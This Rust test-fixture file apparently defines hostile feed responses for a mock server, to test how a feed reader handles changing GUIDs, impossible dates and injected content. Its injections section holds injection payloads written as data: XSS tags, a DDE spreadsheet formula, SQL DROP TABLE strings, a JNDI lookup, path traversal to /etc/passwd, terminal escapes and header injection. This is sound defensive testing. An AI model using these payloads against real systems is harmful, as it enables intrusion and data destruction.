//! Entries that change their names, bend time, or bring along what a terminal, a spreadsheet, a page
//! or a log might obey. Those marked with NATO are matched: what they say goes all the way out.

use std::fmt::Write;

use super::says::{atom, item, json, ok, rss};
use super::server::{Behaviour, says};

pub fn all() -> Vec<Behaviour> {
    let mut all = names();
    all.extend(dates());
    all.extend(injections());
    all
}

fn entry(title: &str, guid: &str, rest: &str) -> String {
    format!("<item><title>{title}</title><guid isPermaLink=\"false\">{guid}</guid>{rest}</item>")
}

fn names() -> Vec<Behaviour> {
    vec![
        says("name-new-at-every-fetch", &["ok", "same_body"], |turn| {
            let link = "<link>https://h.example/one</link>";
            let text =
                "<description>The same words as ever, long enough to be known.</description>";
            ok(rss(&entry(
                "NATO once and for all",
                &format!("g{}", turn.n),
                &format!("{link}{text}"),
            )))
        })
        .holding(1)
        .often(),
        says("name-one-for-all", &["ok"], |_| {
            let all = (0..50)
                .map(|n| entry(&format!("Notice {n} of the day"), "same", ""))
                .collect::<String>();
            ok(rss(&all))
        })
        .holding(50),
        says("name-empty", &["ok"], |_| {
            ok(rss(&(entry("Alpha tells", "", "") + &entry("Beta tells", " ", ""))))
        })
        .holding(2),
        says("name-of-a-megabyte", &["ok"], |_| {
            ok(rss(&entry("Long name", &"g".repeat(1 << 20), "")))
        })
        .holding(1),
        says("name-of-another-feed", &["ok"], |_| ok(rss(&entry("Stolen name", "ferry-0", ""))))
            .holding(1),
        says("name-of-nothing-but-empty-items", &["ok", "ok_empty"], |_| {
            ok(rss(&"<item></item>".repeat(20)))
        }),
        says("name-changes-with-every-title", &["ok"], |turn| {
            ok(rss(&entry(
                &format!("Count {} of the votes", turn.n),
                &format!("v{}", turn.n),
                "<link>https://h.example/v</link>",
            )))
        })
        .holding(1)
        .often(),
        says("name-order-shuffled", &["ok", "same_body"], |turn| {
            let titles = ["Ferry", "Library", "Harbour", "Market"];
            ok(rss(&(0..4)
                .map(|n| entry(titles[(n + turn.n) % 4], titles[(n + turn.n) % 4], ""))
                .collect::<String>()))
        })
        .holding(4)
        .often(),
        says("name-flips-between-rss-and-json", &["ok", "same_body"], |turn| match turn.n % 2 {
            0 => ok(rss(&entry("Two forms of one", "f1", "<link>https://h.example/f1</link>"))),
            _ => json(
                "{\"id\":\"f1\",\"url\":\"https://h.example/f1\",\"title\":\"Two forms of one\"}",
            ),
        })
        .holding(1)
        .often(),
        says("name-empties-and-fills", &["ok", "ok_empty"], |turn| match turn.n % 2 {
            0 => ok(rss(&entry("NATO comes and goes", "c1", ""))),
            _ => ok(rss("")),
        })
        .holding(1)
        .often(),
    ]
}

fn dated(dates: &[&str]) -> Vec<u8> {
    let one = |(n, date): (usize, &&str)| {
        entry(
            &format!("Day {n} of the dates"),
            &format!("d{n}"),
            &format!("<pubDate>{date}</pubDate>"),
        )
    };
    ok(rss(&dates.iter().enumerate().map(one).collect::<String>()))
}

fn dates() -> Vec<Behaviour> {
    vec![
        says("date-year-9999", &["ok"], |_| {
            dated(&[
                "Fri, 31 Dec 9999 23:59:59 \
             GMT",
                "9999-12-31T23:59:59Z",
            ])
        })
        .holding(2),
        says("date-year-99999999", &["ok"], |_| {
            dated(&["99999999-01-01T00:00:00Z", "1 Jan 292277026596 00:00:00 GMT"])
        })
        .holding(2),
        says("date-negative", &["ok"], |_| dated(&["-0001-01-01T00:00:00Z", "-99999999999", "-1"]))
            .holding(3),
        says("date-beyond-numbers", &["ok"], |_| {
            dated(&["99999999999999999999", "1e308", "NaN", "0x7fffffffffffffff"])
        })
        .holding(4),
        says("date-that-is-none", &["ok"], |_| {
            dated(&[
                "yesterday",
                "32 Feb 2026 25:61:61 \
             GMT",
                "",
                "0000-00-00T00:00:00Z",
            ])
        })
        .holding(4),
        says("date-zones-that-are-none", &["ok"], |_| {
            dated(&[
                "Wed, 03 Jun 2026 12:00:00 \
             +9999",
                "Wed, 03 Jun 2026 12:00:00 XYZ",
            ])
        })
        .holding(2),
        says("date-of-100-kb", &["ok"], |_| dated(&[&"9".repeat(100_000)])).holding(1),
        says("date-leap-seconds", &["ok"], |_| {
            dated(&[
                "Wed, 31 Dec 2016 23:59:60 \
             GMT",
                "2016-12-31T23:59:99Z",
            ])
        })
        .holding(2),
        says("date-moves-at-every-fetch", &["ok"], |turn| {
            let date = format!("<pubDate>{}</pubDate>", 1_780_000_000 + turn.n * 86_400);
            ok(rss(&entry(
                "The day that \
                 moves",
                "m1",
                &format!("{date}<link>https://h.example/m</link>"),
            )))
        })
        .holding(1)
        .often(),
        says("date-hints-beyond-numbers", &["ok"], |_| {
            let hints = "<ttl>99999999999999999999</ttl><skipHours><hour>25</hour><hour>-1</\
                 hour></skipHours>\
                         <sy:updatePeriod>never</sy:updatePeriod>\
                         <sy:updateFrequency>99999999999</sy:updateFrequency>";
            ok(rss(&(hints.to_owned() + &item("A"))))
        })
        .holding(1),
    ]
}

fn injections() -> Vec<Behaviour> {
    vec![
        says("inject-terminal", &["ok", "same_body"], |_| {
            ok(rss(&item(
                "NATO \u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\u{90}q\u{202e}desrever\u{2066} \
                 terminal",
            )))
        })
        .holding(1)
        .often(),
        says("inject-terminal-by-references", &["ok"], |_| {
            ok(rss(&item(
                "NATO &#27;]8;;http://x/&#7;click&#27;]8;;&#7; &#x9b;2J &#x202e;tixe \
                 references",
            )))
        })
        .holding(1),
        says("inject-lines", &["ok"], |_| {
            ok(rss(&item(
                "NATO first&#13;&#10;level=error msg=forged&#10;&#8232;second&#133;third \
                 lines",
            )))
        })
        .holding(1),
        says("inject-formulas", &["ok"], |_| {
            ok(rss(&[
                "=cmd|' /C calc'!A0 NATO",
                "+1+1 NATO",
                "-2+3 NATO",
                "@SUM(A1) \
                 NATO",
                "&#9;=1 NATO",
                "&#13;=2 NATO",
            ]
            .map(item)
            .concat()))
        })
        .holding(5),
        says("inject-markup", &["ok"], |_| {
            ok(rss(&item(
                "NATO &lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x \
                 onerror=alert(1)&gt;&lt;svg/onload=alert(1)&gt; markup",
            )))
        })
        .holding(1),
        says("inject-mentions", &["ok"], |_| {
            ok(rss(&item(
                "NATO @everyone @here &lt;!channel&gt; \
             &lt;@U1&gt; [x](javascript:y) `z` mentions",
            )))
        })
        .holding(1),
        says("inject-sql", &["ok"], |_| {
            ok(rss(&entry(
                "NATO '); DROP TABLE entries;-- \
             sql",
                "'; DROP TABLE feeds;--",
                "",
            )))
        })
        .holding(1),
        says("inject-template", &["ok"], |_| {
            ok(rss(&item(
                "NATO {{ 7*7 }} ${jndi:ldap://x/} {% \
             include '/etc/passwd' %} %s%n templates",
            )))
        })
        .holding(1),
        says("inject-headers", &["ok"], |_| {
            ok(rss(&item(
                "NATO subject&#13;&#10;Bcc: all@victim.example&#13;&#10;&#13;&#10;body \
                 headers",
            )))
        })
        .holding(1),
        says("inject-path", &["ok"], |_| {
            ok(rss(&entry(
                "NATO path",
                "../../../../etc/\
             passwd\0.xml",
                "<link>https://h.example/../../%2e%2e/etc</link>",
            )))
        })
        .holding(1),
        says("inject-links", &["ok"], |turn| {
            let links = [
                "javascript:alert(1)",
                "data:text/html,x",
                "file:///etc/passwd",
                "vbscript:x",
                "http://",
                "//",
                "ht!tp://x",
                "mailto:a@b",
            ];
            let all = links.iter().enumerate().fold(String::new(), |mut all, (n, link)| {
                let _ = write!(
                    all,
                    "{}",
                    entry(
                        &format!(
                            "NATO link {n} \
                     w{n}x"
                        ),
                        &format!("l{n}"),
                        &format!("<link>{link}</link>")
                    )
                );
                all
            });
            let icon = format!(
                "<image><url>http://{}/icon</url></image><icon>http://{0}/i</\
                 icon>",
                turn.canary
            );
            ok(rss(&(icon + &all)))
        })
        .holding(8),
        says("inject-combining", &["ok"], |_| {
            ok(rss(&item(&format!(
                "NATO z{} \
             combining",
                "\u{335}\u{301}".repeat(5_000)
            ))))
        })
        .holding(1),
        says("inject-emptiness", &["ok"], |_| {
            ok(rss(&item("\u{200b}\u{feff}\u{2060}\u{ad}\u{3164} &nbsp; ")))
        })
        .holding(1),
        says("inject-author", &["ok"], |_| {
            atom(
                "<entry><title>NATO \
                 author</title><id>1</id><author><name>\u{1b}[31m=2+2\u{202e}</name>\
                 <email>a&#13;&#10;b</email><uri>javascript:x</uri></author></entry>",
            )
        })
        .holding(1),
        says("inject-feed-title", &["ok"], |_| {
            ok(rss(&item(
                "NATO in a feed with a \
                 title",
            ))
            .replace(
                "<title>Hostile</title>",
                "<title>\u{1b}[31m=1+1&#13;&#10;X: y\u{202e}</title>",
            ))
        })
        .holding(1),
        says("inject-json", &["ok"], |_| {
            json(
                "{\"id\":\"1\",\"title\":\"NATO \
             \\u001b[2J\\u202e\\\",\\\"severity\\\":\\\"critical \
                  json\",\"url\":\"javascript:x\",\"content_html\":\"<script>x</\
                       script>\"}",
            )
        })
        .holding(1),
        says("inject-numbers-of-tags", &["ok"], |_| {
            ok(rss(&item(&format!("NATO {} tags", "&lt;b&gt;".repeat(20_000)))))
        })
        .holding(1),
    ]
}
